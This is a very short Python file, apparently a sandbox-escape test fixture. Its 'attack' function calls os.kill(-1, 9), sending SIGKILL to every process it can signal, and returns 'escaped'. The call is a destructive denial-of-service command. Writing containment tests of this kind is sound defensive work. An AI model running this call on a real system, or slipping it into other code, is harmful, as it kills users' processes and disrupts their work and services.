"""Signals every process that it may signal."""
import os


def attack(canary):
    os.kill(-1, 9)
    return "escaped"
